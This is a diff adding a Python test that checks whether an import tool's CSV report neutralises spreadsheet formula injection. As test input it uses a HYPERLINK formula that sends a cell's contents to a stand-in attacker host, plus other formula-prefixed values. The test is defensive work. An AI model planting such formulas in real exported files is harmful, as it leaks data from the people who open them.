@@ -302,3 +302,26 @@ def test_the_command_exits_3_when_the_api_cannot_be_reached(
     assert main([str(path), "--base-url", "http://127.0.0.1:9"]) == 3
     assert "cannot reach the API at http://127.0.0.1:9/api/needs" in capsys.readouterr().out
     assert main([str(path), "--report", str(tmp_path / "no" / "r.csv")]) == 2
+
+
+def test_the_report_neutralises_cells_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    """The refused rows come from someone else's file: opening the report must not run them."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
+    row = _row(7, position_title=evil, decision_number="+1-2")
+    report = ImportReport()
+    report.results.append(
+        RowResult(
+            row=row,
+            outcome=Outcome.REFUSED,
+            refusal=Refusal(Step.NEED, "INVALID_REQUEST", "@SUM(1,2) is not a title"),
+        )
+    )
+    path = tmp_path / "refused.csv"
+    write_report(report, tuple(row.original), path)
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        header, line = list(csv.reader(f))
+    record = dict(zip(header, line, strict=True))
+    assert record["position_title"] == "'" + evil
+    assert record["decision_number"] == "'+1-2"
+    assert record["message"] == "'@SUM(1,2) is not a title"
+    assert record["row"] == "7"
